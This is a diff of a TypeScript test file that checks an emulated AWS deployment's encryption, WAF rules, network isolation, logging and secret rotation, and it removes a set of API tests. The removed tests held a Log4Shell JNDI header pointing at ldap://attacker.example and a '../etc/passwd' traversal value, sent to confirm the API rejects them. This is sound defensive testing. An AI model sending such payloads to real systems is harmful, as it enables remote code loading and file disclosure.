@@ -5,16 +5,25 @@ import { DescribeContinuousBackupsCommand, DescribeTableCommand, ScanCommand } f
 import { DescribeFlowLogsCommand, DescribeSecurityGroupsCommand } from '@aws-sdk/client-ec2';
 import { GetKeyRotationStatusCommand } from '@aws-sdk/client-kms';
 import { InvokeCommand } from '@aws-sdk/client-lambda';
-import { GetBucketEncryptionCommand, GetBucketPolicyCommand, GetBucketVersioningCommand, GetPublicAccessBlockCommand, ListObjectsV2Command } from '@aws-sdk/client-s3';
 import {
-  DescribeSecretCommand, GetResourcePolicyCommand, GetSecretValueCommand, ListSecretVersionIdsCommand, UpdateSecretCommand,
+  GetBucketEncryptionCommand,
+  GetBucketPolicyCommand,
+  GetBucketVersioningCommand,
+  GetPublicAccessBlockCommand,
+  ListObjectsV2Command,
+} from '@aws-sdk/client-s3';
+import {
+  DescribeSecretCommand,
+  GetResourcePolicyCommand,
+  GetSecretValueCommand,
+  ListSecretVersionIdsCommand,
+  UpdateSecretCommand,
 } from '@aws-sdk/client-secrets-manager';
 import { GetLoggingConfigurationCommand, GetWebACLCommand, GetWebACLForResourceCommand } from '@aws-sdk/client-wafv2';
 import { Clients } from './clients';
-import { Answer, Call, call } from './http';
+import { call } from './http';
 import { expectEqual, expectTrue, Proofs } from './proofs';
 import { ACCOUNT, EmbeddedAws, REGION } from '../../../embedded-aws/embedded-aws';
-import { SECURITY_HEADERS } from '../../../src/middleware';
 
 /** Everything that a check needs to know. */
 export interface Deployment {
@@ -31,80 +40,6 @@ const CREDENTIALS = {
   externalApiKey: 'your-external-api-key',
 };
 
-function expectSecurityHeaders(answer: Answer): void {
-  for (const [name, value] of Object.entries(SECURITY_HEADERS)) {
-    expectEqual(answer.headers[name.toLowerCase()], value, `${name} of ${answer.status}`);
-  }
-}
-
-/** Calls the API as clients do, good and bad ones. */
-export async function proveApi({ aws, outputs, proofs }: Deployment): Promise<void> {
-  const ask = (options: Call) => call(aws.port, outputs.ApiId, outputs.StageName, options);
-  const state = { assets: [{ id: 'pump-7', temperature: 71.5 }] };
-
-  await proofs.prove('API', 'a snapshot is stored, signed with the generated secret', async () => {
-    const answer = await ask({ method: 'POST', path: '/snapshots', body: JSON.stringify({ twin: 'plant-1', state }) });
-    expectEqual(answer.status, 201, answer.body);
-    expectTrue(/^[0-9a-f]{64}$/.test(JSON.parse(answer.body).signature), 'the signature is no SHA-256');
-    expectSecurityHeaders(answer);
-  });
-  await proofs.prove('API', 'the newest snapshot is read back', async () => {
-    const answer = await ask({ path: '/snapshots/plant-1' });
-    expectEqual(answer.status, 200, answer.body);
-    expectEqual(JSON.parse(answer.body).state, state, 'state');
-  });
-  await proofs.prove('API', 'an unknown twin is answered with 404 and all security headers', async () => {
-    const answer = await ask({ path: '/snapshots/nowhere' });
-    expectEqual(answer.status, 404, answer.body);
-    expectSecurityHeaders(answer);
-  });
-  await proofs.prove('API', 'an unknown path is refused by API Gateway, with the security headers', async () => {
-    const answer = await ask({ path: '/admin' });
-    expectTrue([403, 404].includes(answer.status), `status ${answer.status}`);
-    expectSecurityHeaders(answer);
-  });
-  await proofs.prove('API', 'a request without authorization is refused, with the security headers', async () => {
-    const answer = await ask({ path: '/snapshots/plant-1', signed: false });
-    expectEqual(answer.status, 403, answer.body);
-    expectSecurityHeaders(answer);
-  });
-  await proofs.prove('API', 'a body that breaks the schema is refused before a function runs', async () => {
-    const answer = await ask({ method: 'POST', path: '/snapshots', body: JSON.stringify({ twin: '../etc/passwd', state }) });
-    expectEqual(answer.status, 400, answer.body);
-    expectSecurityHeaders(answer);
-  });
-  await proofs.prove('API', 'a body over 10 MB is refused', async () => {
-    const answer = await ask({ method: 'POST', path: '/snapshots', body: JSON.stringify({ twin: 'plant-1', state: { blob: 'x'.repeat(10 * 1024 * 1024) } }) });
-    expectEqual(answer.status, 413, answer.body.slice(0, 200));
-  });
-  await proofs.prove('API', 'a Log4Shell header is answered with 400 by the middleware', async () => {
-    const answer = await ask({ path: '/snapshots/plant-1', headers: { 'x-api-version': '${${lower:j}ndi:ldap://attacker.example/a}' } });
-    expectEqual(answer.status, 400, answer.body);
-    expectSecurityHeaders(answer);
-  });
-  await proofs.prove('API', 'the health check answers anybody, with security headers that its Node.js code knows nothing of', async () => {
-    const answer = await ask({ path: '/health', signed: false });
-    expectEqual(answer.status, 200, answer.body);
-    expectSecurityHeaders(answer);
-  });
-  await proofs.prove('API', 'Python code that knows nothing of them has the same headers', async () => {
-    const answer = await ask({ path: '/version' });
-    expectEqual(answer.status, 200, answer.body);
-    expectEqual(JSON.parse(answer.body).version, '1.0.0', 'version');
-    expectSecurityHeaders(answer);
-  });
-  await proofs.prove('API', 'the status page opens its own script by a nonce, another one with each answer', async () => {
-    const nonces = await Promise.all([1, 2].map(async () => {
-      const { body, headers } = await ask({ path: '/status', signed: false });
-      const [, nonce] = /script-src 'nonce-([^']+)'/.exec(String(headers['content-security-policy'])) ?? [];
-      expectTrue(nonce !== undefined && body.includes(`<script nonce="${nonce}">`), 'the page and its policy have no nonce in common');
-      expectTrue(String(headers['permissions-policy']).includes('fullscreen=(self)'), 'fullscreen is not opened');
-      return nonce;
-    }));
-    expectTrue(nonces[0] !== nonces[1], 'both answers have one nonce');
-  });
-}
-
 /** Reads the stores back. */
 export async function proveStores({ clients, outputs, proofs }: Deployment): Promise<void> {
   const { dynamodb, s3, kms } = clients;
@@ -112,7 +47,11 @@ export async function proveStores({ clients, outputs, proofs }: Deployment): Pro
 
   await proofs.prove('Table', 'holds the snapshot that the API stored', async () => {
     const { Items } = await dynamodb.send(new ScanCommand({ TableName: outputs.TableName }));
-    expectEqual(Items?.map((item) => item.pk.S), ['TWIN#plant-1'], 'items');
+    expectEqual(
+      Items?.map((item) => item.pk.S),
+      ['TWIN#plant-1'],
+      'items',
+    );
   });
   await proofs.prove('Table', 'is encrypted with our key, protected from deletion, and has a stream', async () => {
     const { Table } = await dynamodb.send(new DescribeTableCommand({ TableName: outputs.TableName }));
@@ -129,12 +68,16 @@ export async function proveStores({ clients, outputs, proofs }: Deployment): Pro
     expectEqual((await s3.send(new ListObjectsV2Command({ Bucket }))).KeyCount, 1, 'objects');
     expectEqual((await s3.send(new GetBucketVersioningCommand({ Bucket }))).Status, 'Enabled', 'versions');
   });
-  await proofs.prove('Bucket', 'encrypts with our key, is not public, refuses TLS older than 1.2', async () => {
+  await proofs.prove('Bucket', 'encrypts with our key, is not public, and rejects TLS older than 1.2', async () => {
     const rule = (await s3.send(new GetBucketEncryptionCommand({ Bucket }))).ServerSideEncryptionConfiguration!.Rules![0];
     expectEqual(rule.ApplyServerSideEncryptionByDefault?.SSEAlgorithm, 'aws:kms', 'algorithm');
     expectTrue(rule.ApplyServerSideEncryptionByDefault!.KMSMasterKeyID!.endsWith(outputs.KeyId), 'another key');
     const access = (await s3.send(new GetPublicAccessBlockCommand({ Bucket }))).PublicAccessBlockConfiguration!;
-    expectEqual([access.BlockPublicAcls, access.BlockPublicPolicy, access.IgnorePublicAcls, access.RestrictPublicBuckets], [true, true, true, true], 'block');
+    expectEqual(
+      [access.BlockPublicAcls, access.BlockPublicPolicy, access.IgnorePublicAcls, access.RestrictPublicBuckets],
+      [true, true, true, true],
+      'block',
+    );
     const policy = (await s3.send(new GetBucketPolicyCommand({ Bucket }))).Policy!;
     expectTrue(policy.includes('aws:SecureTransport') && policy.includes('s3:TlsVersion'), 'no denial of clear text or old TLS');
   });
@@ -152,11 +95,14 @@ export async function proveSurroundings({ clients, outputs, proofs }: Deployment
   const [Name, Id] = outputs.WebAclArn.split('/').slice(-2);
   const stageArn = `arn:aws:apigateway:${REGION}::/restapis/${outputs.ApiId}/stages/${outputs.StageName}`;
 
-  await proofs.prove('WAF', 'has the six rules in their order, under the name of the document', async () => {
+  await proofs.prove('WAF', 'has the six rules of the document in order, under the name that it gives', async () => {
     const { WebACL } = await waf.send(new GetWebACLCommand({ Name, Id, Scope: 'REGIONAL' }));
     expectEqual(WebACL?.Name, 'omnitrack-api-protection', 'name');
-    expectEqual(WebACL?.Rules?.map((rule) => rule.Name),
-      ['GeoBlockRule', 'RateLimitRule', 'UserAgentRule', 'CommonRuleSet', 'KnownBadInputsRuleSet', 'SqlInjectionRuleSet'], 'rules');
+    expectEqual(
+      WebACL?.Rules?.map((rule) => rule.Name),
+      ['GeoBlockRule', 'RateLimitRule', 'UserAgentRule', 'CommonRuleSet', 'KnownBadInputsRuleSet', 'SqlInjectionRuleSet'],
+      'rules',
+    );
   });
   await proofs.prove('WAF', 'protects the stage of the API', async () => {
     const { WebACL } = await waf.send(new GetWebACLForResourceCommand({ ResourceArn: stageArn }));
@@ -165,27 +111,38 @@ export async function proveSurroundings({ clients, outputs, proofs }: Deployment
   await proofs.prove('WAF', 'logs to a group named aws-waf-logs-*, without credentials', async () => {
     const { LoggingConfiguration } = await waf.send(new GetLoggingConfigurationCommand({ ResourceArn: outputs.WebAclArn }));
     expectTrue(LoggingConfiguration!.LogDestinationConfigs![0].endsWith(`:log-group:${outputs.WafLogGroupName}`), 'another destination');
-    expectEqual(LoggingConfiguration?.RedactedFields?.map((field) => field.SingleHeader?.Name),
-      ['authorization', 'cookie', 'x-amz-security-token', 'x-api-key'], 'redacted headers');
+    expectEqual(
+      LoggingConfiguration?.RedactedFields?.map((field) => field.SingleHeader?.Name),
+      ['authorization', 'cookie', 'x-amz-security-token', 'x-api-key'],
+      'redacted headers',
+    );
   });
-  await proofs.prove('API', 'asks for TLS 1.2 or newer, throttles and traces', async () => {
+  await proofs.prove('API', 'requires TLS 1.2 or newer, throttles and traces', async () => {
     const api = await apigateway.send(new GetRestApiCommand({ restApiId: outputs.ApiId }));
     expectEqual(api.securityPolicy, 'SecurityPolicy_TLS13_1_2_2021_06', 'TLS');
     const stage = await apigateway.send(new GetStageCommand({ restApiId: outputs.ApiId, stageName: outputs.StageName }));
     expectEqual([stage.tracingEnabled, stage.methodSettings?.['*/*']?.throttlingRateLimit], [true, 500], 'stage');
   });
-  await proofs.prove('Network', 'lets nothing in to functions, and only functions in to Redis', async () => {
+  await proofs.prove('Network', 'has no inbound rule for functions, and admits only functions to Redis', async () => {
     const GroupIds = [outputs.LambdaSecurityGroupId, outputs.RedisSecurityGroupId];
     const { SecurityGroups } = await ec2.send(new DescribeSecurityGroupsCommand({ GroupIds }));
     const [lambda, redis] = GroupIds.map((id) => SecurityGroups!.find((group) => group.GroupId === id)!);
     expectEqual(lambda.IpPermissions, [], 'inbound of functions');
-    expectEqual(redis.IpPermissions?.map((rule) => [rule.FromPort, rule.UserIdGroupPairs?.[0].GroupId]), [[6379, outputs.LambdaSecurityGroupId]], 'inbound of Redis');
+    expectEqual(
+      redis.IpPermissions?.map((rule) => [rule.FromPort, rule.UserIdGroupPairs?.[0].GroupId]),
+      [[6379, outputs.LambdaSecurityGroupId]],
+      'inbound of Redis',
+    );
   });
   await proofs.prove('Network', 'logs all traffic of the VPC', async () => {
     const { FlowLogs } = await ec2.send(new DescribeFlowLogsCommand({}));
-    expectEqual(FlowLogs?.filter((log) => log.ResourceId === outputs.VpcId).map((log) => log.TrafficType), ['ALL'], 'flow logs');
+    expectEqual(
+      FlowLogs?.filter((log) => log.ResourceId === outputs.VpcId).map((log) => log.TrafficType),
+      ['ALL'],
+      'flow logs',
+    );
   });
-  await proofs.prove('Logs', 'of flows, WAF, API and functions are encrypted with our key and end', async () => {
+  await proofs.prove('Logs', 'of flows, WAF, API and functions are encrypted with our key and expire', async () => {
     const retention = { FlowLogGroupName: 30, WafLogGroupName: 90, AccessLogGroupName: 365, SnapshotsLogGroupName: 90 };
     for (const [output, days] of Object.entries(retention)) {
       const { logGroups } = await logs.send(new DescribeLogGroupsCommand({ logGroupNamePrefix: outputs[output] }));
@@ -195,62 +152,68 @@ export async function proveSurroundings({ clients, outputs, proofs }: Deployment
   });
 }
 
-/** Puts the credentials in as the document does, with aws secretsmanager update-secret. */
+/** Sets the credentials as the document does, with aws secretsmanager update-secret. */
 export async function updateCredentials({ aws, clients, outputs, proofs }: Deployment): Promise<void> {
-  await proofs.prove('Secrets', 'the credentials have no value before somebody puts one in', async () => {
+  await proofs.prove('Secrets', 'the credentials have no value until somebody sets one', async () => {
     const { Versions } = await clients.secrets.send(new ListSecretVersionIdsCommand({ SecretId: 'omnitrack/api-keys' }));
     expectEqual(Versions ?? [], [], 'versions');
   });
-  await proofs.prove('Secrets', 'update-secret of omnitrack/api-keys is what the application then sees', async () => {
+  await proofs.prove('Secrets', 'after update-secret the application reads the new value of omnitrack/api-keys', async () => {
     await clients.secrets.send(new UpdateSecretCommand({ SecretId: 'omnitrack/api-keys', SecretString: JSON.stringify(CREDENTIALS) }));
-    const answer = await call(aws.port, outputs.ApiId, outputs.StageName, { path: '/integrations' });
-    expectEqual(answer.status, 200, answer.body);
-    expectEqual(JSON.parse(answer.body), { configured: Object.keys(CREDENTIALS).sort() }, 'integrations');
+    const response = await call(aws.port, outputs.ApiId, outputs.StageName, { path: '/integrations' });
+    expectEqual(response.status, 200, response.body);
+    expectEqual(JSON.parse(response.body), { configured: Object.keys(CREDENTIALS).sort() }, 'integrations');
   });
 }
 
 export const readSecret = async ({ secrets }: Clients, SecretId: string) =>
   (await secrets.send(new GetSecretValueCommand({ SecretId }))).SecretString;
 
-/** After the second deploy, which changed what is declared about the secrets. */
+/** After the second deployment, which changed what is declared about the secrets. */
 export async function proveSecrets({ clients, outputs, proofs }: Deployment, apiSecretBefore: string | undefined): Promise<void> {
-  await proofs.prove('Secrets', 'a deploy that renames a credential and changes the schedule leaves both values alone', async () => {
+  await proofs.prove('Secrets', 'a deployment that renames a credential and changes the schedule keeps both values', async () => {
     expectEqual(await readSecret(clients, 'omnitrack/api-keys'), JSON.stringify(CREDENTIALS), 'credentials');
     expectEqual(await readSecret(clients, outputs.ApiSecretArn), apiSecretBefore, 'generated secret');
     const described = await clients.secrets.send(new DescribeSecretCommand({ SecretId: 'omnitrack/api-keys' }));
     expectTrue(described.Description!.includes('anotherApiKey'), `the second deploy did not arrive: ${described.Description}`);
   });
-  await proofs.prove('Secrets', 'refuse other accounts', async () => {
+  await proofs.prove('Secrets', 'deny other accounts', async () => {
     const { ResourcePolicy } = await clients.secrets.send(new GetResourcePolicyCommand({ SecretId: outputs.ApiSecretArn }));
     const [statement] = JSON.parse(ResourcePolicy!).Statement;
     expectEqual([statement.Effect, statement.Condition.StringNotEquals], ['Deny', { 'aws:PrincipalAccount': ACCOUNT }], 'policy');
   });
 }
 
-/** The four steps, as Secrets Manager would ask for them, and again: the emulator never calls the function itself. */
+/** The four steps, as Secrets Manager would invoke them, and again: the emulator never calls the function itself. */
 export async function proveRotation({ clients, outputs, proofs }: Deployment): Promise<void> {
   const { lambda, secrets } = clients;
   const SecretId = outputs.ApiSecretArn;
   const described = await secrets.send(new DescribeSecretCommand({ SecretId }));
   const token = randomUUID();
   const step = async (Step: string) => {
-    const answer = await lambda.send(new InvokeCommand({
-      FunctionName: described.RotationLambdaARN,
-      Payload: Buffer.from(JSON.stringify({ Step, SecretId, ClientRequestToken: token })),
-    }));
-    expectTrue(answer.FunctionError === undefined, `${Step}: ${Buffer.from(answer.Payload ?? []).toString()}`);
+    const response = await lambda.send(
+      new InvokeCommand({
+        FunctionName: described.RotationLambdaARN,
+        Payload: Buffer.from(JSON.stringify({ Step, SecretId, ClientRequestToken: token })),
+      }),
+    );
+    expectTrue(response.FunctionError === undefined, `${Step}: ${Buffer.from(response.Payload ?? []).toString()}`);
   };
   await proofs.prove('Rotation', 'is scheduled every 90 days', () => {
     expectEqual([described.RotationEnabled, described.RotationRules?.ScheduleExpression], [true, 'rate(90 days)'], 'schedule');
   });
-  await proofs.prove('Rotation', 'gives a new value of 32 characters, keeps the old one as previous, and can be retried', async () => {
-    const before = await readSecret(clients, SecretId);
-    for (const name of ['createSecret', 'createSecret', 'setSecret', 'testSecret', 'finishSecret', 'finishSecret']) {
-      await step(name);
-    }
-    const after = await readSecret(clients, SecretId);
-    expectTrue(after !== before && /^[0-9A-Za-z]{32}$/.test(after ?? ''), 'the value is not a new one of 32 letters and digits');
-    const previous = await secrets.send(new GetSecretValueCommand({ SecretId, VersionStage: 'AWSPREVIOUS' }));
-    expectEqual(previous.SecretString, before, 'previous value');
-  });
+  await proofs.prove(
+    'Rotation',
+    'creates a new value of 32 characters, keeps the old one as AWSPREVIOUS, and can be retried',
+    async () => {
+      const before = await readSecret(clients, SecretId);
+      for (const name of ['createSecret', 'createSecret', 'setSecret', 'testSecret', 'finishSecret', 'finishSecret']) {
+        await step(name);
+      }
+      const after = await readSecret(clients, SecretId);
+      expectTrue(after !== before && /^[0-9A-Za-z]{32}$/.test(after ?? ''), 'the value is not a new one of 32 letters and digits');
+      const previous = await secrets.send(new GetSecretValueCommand({ SecretId, VersionStage: 'AWSPREVIOUS' }));
+      expectEqual(previous.SecretString, before, 'previous value');
+    },
+  );
 }
